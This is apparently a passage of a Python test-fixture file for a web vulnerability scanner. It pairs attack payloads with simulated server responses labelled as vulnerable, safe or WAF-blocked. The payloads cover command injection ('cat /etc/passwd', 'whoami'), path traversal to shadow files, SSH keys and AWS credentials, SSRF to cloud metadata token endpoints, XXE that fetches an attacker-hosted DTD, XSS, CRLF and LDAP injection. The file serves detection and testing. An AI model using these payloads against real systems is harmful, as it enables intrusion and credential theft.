add("uname-a", g, "os-command-injection", "|uname -a", 200, "text/plain",
    "Linux web-7f9c8d6b5-x2kqp 5.15.0-1051-aws #56~20.04.1-Ubuntu SMP Tue Nov 28 15:43:31 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\n", LS)
add("uname-alpine", g, "os-command-injection", "|uname -a", 200, "text/plain",
    "Linux 3f1c2a9e8b7d 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 Linux\n", LS,
    note="busybox uname -a on Alpine has no GNU/Linux")
add("passwd-cmd", g, "os-command-injection", ";cat /etc/passwd", 200, "text/plain",
    "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n", LS)
add("ls-la-plain", g, "os-command-injection", ";ls -la", 200, "text/plain",
    "total 24\ndrwxr-xr-x 1 www-data www-data 4096 Mar  1 10:00 .\ndrwxr-xr-x 1 root     root     4096 Feb 20 09:12 ..\n-rw-r--r-- 1 www-data www-data  220 Feb 20 09:12 .htaccess\n-rw-r--r-- 1 www-data www-data 1534 Feb 20 09:12 index.php\n", LS)
add("ls-la-in-json", g, "os-command-injection", "127.0.0.1;ls -la", 200, "application/json",
    '{"result":"total 24\\ndrwxr-xr-x 1 www-data www-data 4096 Mar  1 10:00 .\\ndrwxr-xr-x 1 root     root     4096 Feb 20 09:12 ..\\n-rw-r--r-- 1 www-data www-data 1534 Feb 20 09:12 index.php\\n"}', LS,
    note="command output returned as a JSON string: newlines are escaped")
add("ls-la-in-pre", g, "os-command-injection", ";ls -la", 200, "text/html", page(
    "<pre>total 24\ndrwxr-xr-x 1 www-data www-data 4096 Mar  1 10:00 .\n-rw-r--r-- 1 www-data www-data 1534 Feb 20 09:12 index.php\n</pre>"), LS)
add("win-dir", g, "os-command-injection", "& dir", 200, "text/plain",
    " Volume in drive C has no label.\r\n Volume Serial Number is 5A2C-1F3B\r\n\r\n Directory of C:\\inetpub\\wwwroot\r\n\r\n03/01/2024  10:00 AM    <DIR>          .\r\n03/01/2024  10:00 AM             1,024 web.config\r\n               1 File(s)          1,024 bytes\r\n", LS)
add("win-whoami-system", g, "os-command-injection", "& whoami", 200, "text/plain", "nt authority\\system\r\n", LS)
add("win-whoami-apppool", g, "os-command-injection", "& whoami", 200, "text/plain", "iis apppool\\defaultapppool\r\n", LS,
    note="IIS worker identity; the usual whoami output on IIS")
add("win-whoami-json", g, "os-command-injection", "& whoami", 200, "application/json", '{"out":"nt authority\\\\system\\r\\n"}', LS)
add("win-ipconfig", g, "os-command-injection", "& ipconfig", 200, "text/plain",
    "\r\nWindows IP Configuration\r\n\r\n\r\nEthernet adapter Ethernet:\r\n\r\n   Connection-specific DNS Suffix  . : ec2.internal\r\n   IPv4 Address. . . . . . . . . . . : 172.31.20.5\r\n   Subnet Mask . . . . . . . . . . . : 255.255.240.0\r\n   Default Gateway . . . . . . . . . : 172.31.16.1\r\n", LS)
add("linux-ping", g, "os-command-injection", "127.0.0.1 -c 4", 200, "text/plain",
    "PING 127.0.0.1 (127.0.0.1) 56(84) bytes of data.\n64 bytes from 127.0.0.1: icmp_seq=1 ttl=64 time=0.031 ms\n\n--- 127.0.0.1 ping statistics ---\n4 packets transmitted, 4 received, 0% packet loss, time 3053ms\nrtt min/avg/max/mdev = 0.031/0.040/0.051/0.008 ms\n", LS,
    note="ping with an injected option: output of the injected run")
add("windows-ping", g, "os-command-injection", "127.0.0.1 & ping -n 4 127.0.0.1", 200, "text/plain",
    "\r\nPinging 127.0.0.1 with 32 bytes of data:\r\nReply from 127.0.0.1: bytes=32 time<1ms TTL=128\r\n\r\nPing statistics for 127.0.0.1:\r\n    Packets: Sent = 4, Received = 4, Lost = 0 (0% loss),\r\nApproximate round trip times in milli-seconds:\r\n    Minimum = 0ms, Maximum = 0ms, Average = 0ms\r\n", LS)
add("ip-addr", g, "os-command-injection", ";ip addr", 200, "text/plain",
    "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    inet 127.0.0.1/8 scope host lo\n2: eth0@if7: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP group default\n    link/ether 02:42:ac:11:00:02 brd ff:ff:ff:ff:ff:ff link-netnsid 0\n    inet 172.17.0.2/16 brd 172.17.255.255 scope global eth0\n", LS)
add("dash-not-found", g, "os-command-injection", ";xyz", 200, "text/plain", "sh: 1: xyz: not found\n", LS)
add("binsh-not-found-json", g, "os-command-injection", ";xyz", 500, "application/json",
    '{"error":"Command failed: ping -c 1 127.0.0.1;xyz\\n/bin/sh: 1: xyz: not found\\n"}', LS)
add("bash-command-not-found", g, "os-command-injection", ";xyz", 200, "text/plain", "bash: line 1: xyz: command not found\n", LS,
    note="bash -c on RHEL/Fedora/Arch; sh is bash there")
add("bash-command-not-found-short", g, "os-command-injection", ";xyz", 200, "text/plain", "bash: xyz: command not found\n", LS)
add("busybox-not-found", g, "os-command-injection", ";xyz", 200, "text/plain", "sh: xyz: not found\n", LS)
add("cmd-not-recognized", g, "os-command-injection", "& xyz", 200, "text/plain",
    "'xyz' is not recognized as an internal or external command,\r\noperable program or batch file.\r\n", LS)
add("powershell-not-recognized", g, "os-command-injection", "; xyz", 500, "text/plain",
    "xyz : The term 'xyz' is not recognized as the name of a cmdlet, function, script file, or operable program. Check the spelling of the name, or if a path was included, verify that the path is correct and try again.", LS)

# ---------------------------------------------------------------- file content
g = "file"
PASSWD = "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\nsys:x:3:3:sys:/dev:/usr/sbin/nologin\nwww-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"
add("passwd-plain", g, "path-traversal", "../../../../etc/passwd", 200, "text/plain", PASSWD, LS)
add("passwd-octet", g, "path-traversal", "....//....//etc/passwd", 200, "application/octet-stream", PASSWD, LS)
add("passwd-in-json", g, "path-traversal", "../../../../etc/passwd", 200, "application/json",
    json.dumps({"name": "../../../../etc/passwd", "content": PASSWD}), LS)
add("passwd-base64-filter", g, "local-file-inclusion", "php://filter/convert.base64-encode/resource=/etc/passwd", 200, "text/html",
    "cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2JpbjovdXNyL3NiaW4vbm9sb2dpbgo=", LS,
    note="php://filter base64 of /etc/passwd")
add("shadow", g, "path-traversal", "../../../../etc/shadow", 200, "text/plain",
    "root:$y$j9T$Fq1pX3m5vO0T9kqY7Hc6B/$VxZ4kIc7i0n0k3r5zA8P8C2o6dAq7yXlG1m2w3e4r5t:19683:0:99999:7:::\ndaemon:*:19683:0:99999:7:::\nbin:*:19683:0:99999:7:::\n", LS)
add("win-ini", g, "path-traversal", "..\\..\\..\\windows\\win.ini", 200, "text/plain",
    "; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n[Mail]\r\nMAPI=1\r\n", LS)
add("proc-self-environ", g, "local-file-inclusion", "/proc/self/environ", 200, "text/plain",
    "HOSTNAME=web-7f9c8d6b5-x2kqp\x00PHP_VERSION=8.2.12\x00APACHE_RUN_DIR=/var/run/apache2\x00PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\x00HOME=/var/www\x00", LS)
add("laravel-env", g, "path-traversal", "../../.env", 200, "text/plain",
    "APP_NAME=Laravel\nAPP_ENV=production\nAPP_KEY=base64:3q2+7w8Yd0rMZbXkU1v3YgGq0Z8o4aJ1mN5pQ7sT9uA=\nAPP_DEBUG=false\nAPP_URL=https://shop.example.com\n\nLOG_CHANNEL=stack\n\nDB_CONNECTION=mysql\nDB_HOST=10.0.1.12\nDB_PORT=3306\nDB_DATABASE=shop\nDB_USERNAME=shop\nDB_PASSWORD=S3cr3tPassw0rd\n", LS)
add("web-config-core", g, "path-traversal", "..\\web.config", 200, "text/xml",
    '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <location path="." inheritInChildApplications="false">\n    <system.webServer>\n      <handlers>\n        <add name="aspNetCore" path="*" verb="*" modules="AspNetCoreModuleV2" resourceType="Unspecified" />\n      </handlers>\n      <aspNetCore processPath="dotnet" arguments=".\\Shop.Web.dll" stdoutLogEnabled="false" stdoutLogFile=".\\logs\\stdout" hostingModel="inprocess" />\n    </system.webServer>\n  </location>\n</configuration>\n', LS)
add("web-config-connstr", g, "path-traversal", "..\\web.config", 200, "application/octet-stream",
    '<?xml version="1.0"?>\n<configuration>\n  <connectionStrings>\n    <add name="ShopDb" connectionString="Server=sql01;Database=Shop;User Id=shop;Password=P@ssw0rd;" providerName="System.Data.SqlClient" />\n  </connectionStrings>\n</configuration>\n', LS)
add("id-rsa", g, "path-traversal", "../../../root/.ssh/id_rsa", 200, "text/plain",
    "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAABlwAAAAdzc2gtcn\nNhAAAAAwEAAQAAAYEAu3Q9cM1xJ1uEwQ2bq1x7w5l8n0C4Rz2b6K9m3yUq4dT1pX7vA5hE\n-----END OPENSSH PRIVATE KEY-----\n", LS)
add("aws-credentials-file", g, "path-traversal", "../../../root/.aws/credentials", 200, "text/plain",
    "[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n", LS)
add("web-xml", g, "path-traversal", "../WEB-INF/web.xml", 200, "application/xml",
    '<?xml version="1.0" encoding="UTF-8"?>\n<web-app xmlns="http://xmlns.jcp.org/xml/ns/javaee"\n         xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"\n         xsi:schemaLocation="http://xmlns.jcp.org/xml/ns/javaee http://xmlns.jcp.org/xml/ns/javaee/web-app_4_0.xsd"\n         version="4.0">\n  <servlet>\n    <servlet-name>dispatcher</servlet-name>\n    <servlet-class>org.springframework.web.servlet.DispatcherServlet</servlet-class>\n  </servlet>\n</web-app>\n', LS)
add("etc-hosts", g, "path-traversal", "../../../../etc/hosts", 200, "text/plain",
    "127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\nfe00::0\tip6-localnet\n172.17.0.2\t3f1c2a9e8b7d\n", LS)
add("node-enoent", g, "path-traversal", "../../../etc/passwdx", 500, "application/json",
    '{"error":"ENOENT: no such file or directory, open \'/app/public/uploads/../../../etc/passwdx\'"}', LS,
    note="failed open of the traversed path: same meaning as PHP's failed to open stream")
add("python-filenotfound", g, "path-traversal", "../../etc/passwdx", 500, "text/plain",
    "FileNotFoundError: [Errno 2] No such file or directory: '/srv/app/files/../../etc/passwdx'", LS)
add("php-include-fail", g, "local-file-inclusion", "../../../../etc/passwdx", 200, "text/html", page(
    "<br />\n<b>Warning</b>:  include(../../../../etc/passwdx): Failed to open stream: No such file or directory in <b>/var/www/html/index.php</b> on line <b>8</b><br />\n<br />\n<b>Warning</b>:  include(): Failed opening '../../../../etc/passwdx' for inclusion (include_path='.:/usr/local/lib/php') in <b>/var/www/html/index.php</b> on line <b>8</b><br />"), LS)
add("java-fnf", g, "path-traversal", "../../../etc/shadow", 500, "text/plain",
    "java.io.FileNotFoundException: /opt/app/files/../../../etc/shadow (Permission denied)", LS)

# ---------------------------------------------------------------- cloud metadata
g = "cloud"
add("aws-imds-listing", g, "ssrf", "http://169.254.169.254/latest/meta-data/", 200, "text/plain",
    "ami-id\nami-launch-index\nami-manifest-path\nblock-device-mapping/\nevents/\nhostname\niam/\nidentity-credentials/\ninstance-action\ninstance-id\ninstance-life-cycle\ninstance-type\nlocal-hostname\nlocal-ipv4\nmac\nmetrics/\nnetwork/\nplacement/\nprofile\npublic-keys/\nreservation-id\nsecurity-groups\nservices/", LS)
add("aws-imds-listing-json-wrapped", g, "ssrf", "http://169.254.169.254/latest/meta-data/", 200, "application/json",
    '{"url":"http://169.254.169.254/latest/meta-data/","status":200,"body":"ami-id\\nami-launch-index\\nami-manifest-path\\nblock-device-mapping/\\nevents/\\nhostname\\niam/\\ninstance-id\\ninstance-type\\nlocal-ipv4\\n"}', LS,
    note="a URL-preview/webhook API returning the fetched body in JSON")
add("aws-iam-creds", g, "ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role", 200, "text/plain",
    '{\n  "Code" : "Success",\n  "LastUpdated" : "2024-03-01T09:50:12Z",\n  "Type" : "AWS-HMAC",\n  "AccessKeyId" : "ASIAQNZGKIQY3EXAMPLE",\n  "SecretAccessKey" : "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",\n  "Token" : "IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQ",\n  "Expiration" : "2024-03-01T16:25:43Z"\n}', LS)
add("aws-identity-document", g, "ssrf", "http://169.254.169.254/latest/dynamic/instance-identity/document", 200, "text/plain",
    '{\n  "accountId" : "123456789012",\n  "architecture" : "x86_64",\n  "availabilityZone" : "us-east-1a",\n  "billingProducts" : null,\n  "devpayProductCodes" : null,\n  "marketplaceProductCodes" : null,\n  "imageId" : "ami-0abcdef1234567890",\n  "instanceId" : "i-0123456789abcdef0",\n  "instanceType" : "t3.micro",\n  "kernelId" : null,\n  "pendingTime" : "2024-02-20T09:00:00Z",\n  "privateIp" : "10.0.1.25",\n  "ramdiskId" : null,\n  "region" : "us-east-1",\n  "version" : "2017-09-30"\n}', LS)
add("aws-iam-info", g, "ssrf", "http://169.254.169.254/latest/meta-data/iam/info", 200, "text/plain",
    '{\n  "Code" : "Success",\n  "LastUpdated" : "2024-03-01T09:50:13Z",\n  "InstanceProfileArn" : "arn:aws:iam::123456789012:instance-profile/web-role",\n  "InstanceProfileId" : "AIPAQNZGKIQYEXAMPLE12"\n}', LS)
add("gcp-listing", g, "ssrf", "http://metadata.google.internal/computeMetadata/v1/", 200, "application/text",
    "instance/\noauth/\nproject/\n", LS, note="real GCP root listing; ambiguous by itself but it is the whole body")
add("gcp-recursive", g, "ssrf", "http://metadata.google.internal/computeMetadata/v1/instance/?recursive=true", 200, "application/json",
    '{"attributes":{},"cpuPlatform":"Intel Broadwell","description":"","disks":[{"deviceName":"persistent-disk-0","index":0,"interface":"SCSI","mode":"READ_WRITE","type":"PERSISTENT-BALANCED"}],"hostname":"web-1.us-central1-a.c.acme-prod.internal","id":4928375092837465,"image":"projects/debian-cloud/global/images/debian-12-bookworm-v20240110","machineType":"projects/123456789012/machineTypes/e2-medium","name":"web-1","serviceAccounts":{"123456789012-compute@developer.gserviceaccount.com":{"aliases":["default"],"email":"123456789012-compute@developer.gserviceaccount.com","scopes":["https://www.googleapis.com/auth/cloud-platform"]}},"zone":"projects/123456789012/zones/us-central1-a"}', LS)
add("gcp-token", g, "ssrf", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", 200, "application/json",
    '{"access_token":"ya29.c.b0AXv0zTOkz3mEXAMPLEEXAMPLEEXAMPLEEXAMPLE","expires_in":3599,"token_type":"Bearer"}', LS)
add("gcp-403-missing-header", g, "ssrf", "http://metadata.google.internal/computeMetadata/v1/", 403, "text/html; charset=UTF-8",
    "<!DOCTYPE html>\n<html lang=en>\n  <meta charset=utf-8>\n  <meta name=viewport content=\"initial-scale=1, minimum-scale=1, width=device-width\">\n  <title>Error 403 (Forbidden)!!1</title>\n  <p><b>403.</b> <ins>That\u2019s an error.</ins>\n  <p>Your client does not have permission to get URL <code>/computeMetadata/v1/</code> from this server. Missing Metadata-Flavor:Google header. <ins>That\u2019s all we know.</ins>\n", LS,
    note="the metadata server itself answered: the SSRF reached it")
add("azure-imds", g, "ssrf", "http://169.254.169.254/metadata/instance?api-version=2021-02-01", 200, "application/json; charset=utf-8",
    '{"compute":{"azEnvironment":"AzurePublicCloud","location":"westeurope","name":"web-vm","osType":"Linux","resourceGroupName":"rg-web","subscriptionId":"8d2a3b4c-1234-5678-9abc-def012345678","vmId":"02aab8a4-74ef-476e-8182-f6d2ba4166a6","vmSize":"Standard_B2s"},"network":{"interface":[{"ipv4":{"ipAddress":[{"privateIpAddress":"10.1.0.4","publicIpAddress":""}]}}]}}', LS)
add("azure-token", g, "ssrf", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/", 200, "application/json; charset=utf-8",
    '{"access_token":"eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.eyJhdWQiOiJodHRwczovL21hbmFnZW1lbnQuYXp1cmUuY29tLyJ9.sig","client_id":"5e0b7c4a-1111-2222-3333-444455556666","expires_in":"86399","expires_on":"1709370000","ext_expires_in":"86399","not_before":"1709283300","resource":"https://management.azure.com/","token_type":"Bearer"}', LS)

# ---------------------------------------------------------------- LDAP
g = "ldap"
add("java-invalid-filter", g, "ldap-injection", "*)(uid=*))(|(uid=*", 500, "text/plain",
    "javax.naming.directory.InvalidSearchFilterException: Unbalanced parenthesis; remaining name 'ou=people,dc=example,dc=com'", LS)
add("spring-ldap-invalid-filter", g, "ldap-injection", "*)(", 500, "application/json",
    '{"timestamp":"2024-03-01T10:00:00.000+00:00","status":500,"error":"Internal Server Error","message":"Unbalanced parenthesis; nested exception is javax.naming.directory.InvalidSearchFilterException: Unbalanced parenthesis; remaining name \'ou=people\'","path":"/login"}', LS)
add("php-ldap-bad-filter", g, "ldap-injection", "*)(", 200, "text/html", page(
    "<br />\n<b>Warning</b>:  ldap_search(): Search: Bad search filter in <b>/var/www/html/login.php</b> on line <b>27</b><br />"), LS)
add("python-ldap-filter-error", g, "ldap-injection", "*)(", 500, "text/plain",
    "ldap.FILTER_ERROR: {'result': -7, 'desc': 'Bad search filter', 'ctrls': []}", LS)
add("ldap3-invalid-filter", g, "ldap-injection", "*)(", 500, "text/plain",
    "ldap3.core.exceptions.LDAPInvalidFilterError: malformed filter", LS)
add("dotnet-ldap-invalid-filter", g, "ldap-injection", "*)(", 500, "text/plain",
    "System.ArgumentException: The (&(objectClass=user)(sAMAccountName=*)()) search filter is invalid.\n   at System.DirectoryServices.SearchResultCollection.ResultsEnumerator.MoveNext()", LS)

# ---------------------------------------------------------------- XXE / XML parsers
g = "xxe"
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>'
add("xxe-passwd-in-xml", g, "xxe", XXE, 200, "application/xml",
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<result><name>root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n</name><status>saved</status></result>", LS)
add("xxe-passwd-in-json-error", g, "xxe", XXE, 400, "application/json",
    '{"error":"Invalid product id: root:x:0:0:root:/root:/bin/bash\\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\\n"}', LS,
    note="PortSwigger-style: the entity value echoed in a validation error")
add("xxe-error-based-java", g, "xxe", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker/e.dtd"> %x;]><r/>', 500, "text/plain",
    "java.io.FileNotFoundException: /nonexistent/root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin (No such file or directory)", LS)
add("xxe-win-ini", g, "xxe", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><r>&xxe;</r>', 200, "application/xml",
    "<response><comment>; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n</comment></response>", LS)
add("xxe-php-b64", g, "xxe", '<!DOCTYPE r [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&xxe;</r>', 200, "application/xml",
    "<response><msg>PD9waHAKcmVxdWlyZSAnY29uZmlnLnBocCc7CiRkYiA9IG5ldyBQRE8oJGRzbik7Cg==</msg></response>", LS)
add("libxml-entity-not-defined", g, "xxe", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker/e.dtd"> %x;]><r>&xxe;</r>', 200, "text/html", page(
    "<br />\n<b>Warning</b>:  simplexml_load_string(): Entity: line 1: parser error : Entity 'xxe' not defined in <b>/var/www/html/import.php</b> on line <b>12</b><br />"), AT,
    note="external DTD not fetched: the entity stayed undefined")
add("lxml-entity-not-defined", g, "xxe", '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://attacker/e.dtd"> %x;]><r>&xxe;</r>', 400, "application/json",
    "{\"detail\":\"Entity 'xxe' not defined, line 1, column 82 (<string>, line 1)\"}", AT)
add("java-doctype-disallowed", g, "xxe", XXE, 500, "text/plain",
    "org.xml.sax.SAXParseException; lineNumber: 1; columnNumber: 10; DOCTYPE is disallowed when the feature \"http://apache.org/xml/features/disallow-doctype-decl\" set to true.\n\tat java.xml/com.sun.org.apache.xerces.internal.util.ErrorHandlerWrapper.createSAXParseException(ErrorHandlerWrapper.java:204)", AT,
    note="the parser refused the DOCTYPE: hardened")
add("dotnet-dtd-prohibited", g, "xxe", XXE, 500, "text/plain",
    "System.Xml.XmlException: For security reasons DTD is prohibited in this XML document. To enable DTD processing set the DtdProcessing property on XmlReaderSettings to Parse and pass the settings to XmlReader.Create method.", AT)

# ---------------------------------------------------------------- XSS
g = "xss"
add("xss-search-reflected", g, "xss", "<script>alert(document.domain)</script>", 200, "text/html; charset=UTF-8",
    page("<h2>0 results for <b><script>alert(document.domain)</script></b></h2>"), LS)
add("xss-attr-breakout", g, "xss", '"><svg/onload=alert(1)>', 200, "text/html",
    page('<input type="text" name="q" value=""><svg/onload=alert(1)>">'), LS)
add("xss-event-attr", g, "xss", '" autofocus onfocus=alert(1) x="', 200, "text/html",
    page('<input type="text" name="q" value="" autofocus onfocus=alert(1) x="">'), LS)
add("xss-js-url", g, "xss", "javascript:alert(1)", 200, "text/html",
    page('<a href="javascript:alert(1)">Back to your page</a>'), LS)
add("xss-escaped", g, "xss", "<script>alert(1)</script>", 200, "text/html",
    page("<h2>0 results for <b>&lt;script&gt;alert(1)&lt;/script&gt;</b></h2>"), AT)
add("xss-in-json", g, "xss", "<img src=x onerror=alert(1)>", 200, "application/json",
    '{"query":"<img src=x onerror=alert(1)>","results":[]}', AT)
add("xss-js-string-context", g, "xss", "';alert(1)//", 200, "text/html",
    page("<script>var q = '';alert(1)//';</script>"), LS,
    note="breakout of a JS string literal: no tag, no event handler")
add("xss-nginx-400-page-no-reflection", g, "xss", "<script>alert(1)</script>", 400, "text/html",
    "<html>\r\n<head><title>400 Bad Request</title></head>\r\n<body>\r\n<center><h1>400 Bad Request</h1></center>\r\n<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n", AT)

# ---------------------------------------------------------------- CRLF
g = "crlf"
add("crlf-set-cookie", g, "crlf-injection", "/en\r\nSet-Cookie: session=attacker", 302, "text/html", "", LS,
    headers=[["Location", "/en"], ["Set-Cookie", "session=attacker"]])
add("crlf-custom-header", g, "crlf-injection", "x\r\nX-Injected: crlftest1", 200, "text/html", "<p>ok</p>", LS,
    headers=[["X-Injected", "crlftest1"]])
add("crlf-not-injected", g, "crlf-injection", "/en\r\nSet-Cookie: session=attacker", 302, "text/html", "", AT,
    headers=[["Location", "/en%0D%0ASet-Cookie:%20session=attacker"]])
add("crlf-short-value", g, "crlf-injection", "x\r\nX-A: 1", 200, "text/html", "<p>ok</p>", LS,
    headers=[["X-A", "1"]], note="short injected value")

# ---------------------------------------------------------------- WAF
g = "waf"
add("cloudflare-1020", g, "sql-injection", "1' OR '1'='1", 403, "text/html; charset=UTF-8",
    '<!DOCTYPE html>\n<!--[if lt IE 7]> <html class="no-js ie6 oldie" lang="en-US"> <![endif]-->\n<head>\n<title>Attention Required! | Cloudflare</title>\n<meta charset="UTF-8" />\n</head>\n<body>\n<div id="cf-wrapper">\n<h1 data-translate="block_headline">Sorry, you have been blocked</h1>\n<h2 class="cf-subheadline"><span data-translate="unable_to_access">You are unable to access</span> example.com</h2>\n<span class="cf-footer-item sm:block sm:mb-1">Cloudflare Ray ID: <strong class="font-semibold">85d3a1b2c3d4e5f6</strong></span>\n</div>\n</body>\n</html>', BL,
    headers=[["Server", "cloudflare"], ["CF-RAY", "85d3a1b2c3d4e5f6-FRA"]])
add("akamai", g, "xss", "<script>alert(1)</script>", 403, "text/html",
    '<HTML><HEAD>\n<TITLE>Access Denied</TITLE>\n</HEAD><BODY>\n<H1>Access Denied</H1>\n \nYou don\'t have permission to access "http&#58;&#47;&#47;www&#46;example&#46;com&#47;search&#63;" on this server.<P>\nReference&#32;&#35;18&#46;6f5c1002&#46;1709283300&#46;1a2b3c4d\n<P>https&#58;&#47;&#47;errors&#46;edgesuite&#46;net&#47;18&#46;6f5c1002&#46;1709283300&#46;1a2b3c4d</P>\n</BODY>\n</HTML>\n', BL,
    headers=[["Server", "AkamaiGHost"]], note="current Akamai page: Reference #... entity-encoded")
add("akamai-plain", g, "xss", "<script>alert(1)</script>", 403, "text/html",
    '<HTML><HEAD>\n<TITLE>Access Denied</TITLE>\n</HEAD><BODY>\n<H1>Access Denied</H1>\n \nYou don\'t have permission to access "http://www.example.com/search?" on this server.<P>\nReference #18.6f5c1002.1709283300.1a2b3c4d\n</BODY>\n</HTML>\n', BL, headers=[["Server", "AkamaiGHost"]])
add("aws-waf-alb", g, "sql-injection", "1' OR '1'='1", 403, "text/html",
    "<html>\r\n<head><title>403 Forbidden</title></head>\r\n<body>\r\n<center><h1>403 Forbidden</h1></center>\r\n</body>\r\n</html>\r\n", BL,
    headers=[["Server", "awselb/2.0"]], note="AWS WAF on an ALB: default block response")
add("aws-waf-cloudfront", g, "sql-injection", "1' OR '1'='1", 403, "text/html",
    '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN" "http://www.w3.org/TR/html4/loose.dtd">\n<HTML><HEAD><META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=iso-8859-1">\n<TITLE>ERROR: The request could not be satisfied</TITLE>\n</HEAD><BODY>\n<H1>403 ERROR</H1>\n<H2>The request could not be satisfied.</H2>\n<HR noshade size="1px">\nRequest blocked.\nWe can\'t connect to the server for this app or website at this time. There might be too much traffic or a configuration error. Try again later, or contact the app or website owner.\n<BR clear="all">\nIf you provide content to customers through CloudFront, you can find steps to troubleshoot and help prevent this error by reviewing the CloudFront documentation.\n<BR clear="all">\n<HR noshade size="1px">\n<PRE>\nGenerated by cloudfront (CloudFront)\nRequest ID: 2hZ5kX8gP3qR9sT1uV4wX7yZ0aB3cD6eF9gH2iJ5kL8mN1oP4qR7s==\n</PRE>\n<ADDRESS>\n</ADDRESS>\n</BODY></HTML>', BL,
    headers=[["Server", "CloudFront"], ["X-Cache", "Error from cloudfront"]])
add("imperva", g, "sql-injection", "1' OR '1'='1", 403, "text/html",
    '<html style="height:100%"><head><META NAME="ROBOTS" CONTENT="NOINDEX, NOFOLLOW"><meta name="format-detection" content="telephone=no"><meta name="viewport" content="initial-scale=1.0"><meta http-equiv="X-UA-Compatible" content="IE=edge,chrome=1"></head><body style="margin:0px;height:100%"><iframe id="main-iframe" src="/_Incapsula_Resource?CWUDNSAI=9&xinfo=10-12345678-0%200NNN%20RT%281709283300123%2050%29%20q%280%20-1%20-1%200%29%20r%280%20-1%29%20B12%284%2c316%2c0%29%20U18&incident_id=123000450012345678-123456789012345678&edet=12&cinfo=04000000&rpinfo=0&mth=GET" frameborder=0 width="100%" height="100%" marginheight="0px" marginwidth="0px">Request unsuccessful. Incapsula incident ID: 123000450012345678-123456789012345678</iframe></body></html>', BL)
add("modsecurity-apache-406", g, "sql-injection", "1' OR '1'='1", 406, "text/html; charset=iso-8859-1",
    '<!DOCTYPE HTML PUBLIC "-//IETF//DTD HTML 2.0//EN">\n<html><head>\n<title>406 Not Acceptable</title>\n</head><body>\n<h1>Not Acceptable</h1>\n<p>An appropriate representation of the requested resource could not be found on this server.</p>\n<p>Additionally, a 404 Not Found\nerror was encountered while trying to use an ErrorDocument to handle the request.</p>\n</body></html>\n', AT,
    note="cPanel-style ModSecurity 406 without the Mod_Security line: 406 is rare outside ModSecurity but not proof")
add("modsecurity-not-acceptable", g, "sql-injection", "1' OR '1'='1", 406, "text/html",
    "<head><title>Not Acceptable!</title></head><body><h1>Not Acceptable!</h1><p>An appropriate representation of the requested resource could not be found on this server. This error was generated by Mod_Security.</p></body></html>", BL)
add("f5-asm", g, "sql-injection", "1' OR '1'='1", 200, "text/html",
    "<html><head><title>Request Rejected</title></head><body>The requested URL was rejected. Please consult with your administrator.<br><br>Your support ID is: 14278567592301482291<br><br><a href='javascript:history.back();'>[Go Back]</a></body></html>", BL)
add("sucuri", g, "xss", "<script>alert(1)</script>", 403, "text/html",
    "<!DOCTYPE html>\n<html lang=\"en\"><head><title>Sucuri WebSite Firewall - Access Denied</title></head><body><h2>Access Denied - Sucuri Website Firewall</h2></body></html>", BL,
    headers=[["X-Sucuri-ID", "17005"], ["X-Sucuri-Block", "XSS01"]])
add("azure-appgw-waf", g, "sql-injection", "1' OR '1'='1", 403, "text/html",
    "<html>\r\n<head><title>403 Forbidden</title></head>\r\n<body>\r\n<center><h1>403 Forbidden</h1></center>\r\n<hr><center>Microsoft-Azure-Application-Gateway/v2</center>\r\n</body>\r\n</html>\r\n", BL,
